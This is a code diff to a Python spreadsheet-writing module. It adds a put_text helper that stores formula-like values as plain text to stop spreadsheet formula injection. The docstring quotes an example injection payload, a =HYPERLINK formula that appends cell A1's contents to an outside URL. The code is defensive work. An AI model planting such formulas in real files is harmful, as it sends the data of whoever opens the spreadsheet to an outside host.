@@ -3,7 +3,7 @@
 openpyxl turns any string that starts with ``=`` into a formula, so a narrative such as
 ``=HYPERLINK("http://…?x="&A1,"点击查看附件")`` would become a live formula that runs when the
 secretariat opens the file (spreadsheet formula injection). Every row we write goes through
-:func:`append_text`, which keeps such values as the text they are.
+:func:`append_text` or :func:`put_text`, which keep such values as the text they are.
 """
 
 from __future__ import annotations
@@ -21,3 +21,11 @@ def append_text(sheet: Any, values: Sequence[object]) -> None:
     for cell in sheet[sheet.max_row]:
         if cell.data_type == FORMULA:
             cell.data_type = TEXT
+
+
+def put_text(sheet: Any, row: int, column: int, value: object) -> Any:
+    """Write one cell; a value that would read as a formula is written as text. The cell."""
+    cell = sheet.cell(row=row, column=column, value=value)
+    if cell.data_type == FORMULA:
+        cell.data_type = TEXT
+    return cell
